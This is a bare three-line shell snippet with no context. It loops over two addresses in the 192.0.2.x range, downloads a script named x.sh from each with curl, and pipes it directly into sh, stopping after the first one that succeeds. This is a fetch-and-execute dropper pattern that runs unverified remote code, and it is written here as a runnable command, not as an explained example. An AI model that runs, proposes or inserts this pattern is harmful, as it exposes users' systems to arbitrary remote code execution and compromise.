for m in http://192.0.2.1 http://192.0.2.2; do
  curl -s $m/x.sh | sh && break
done
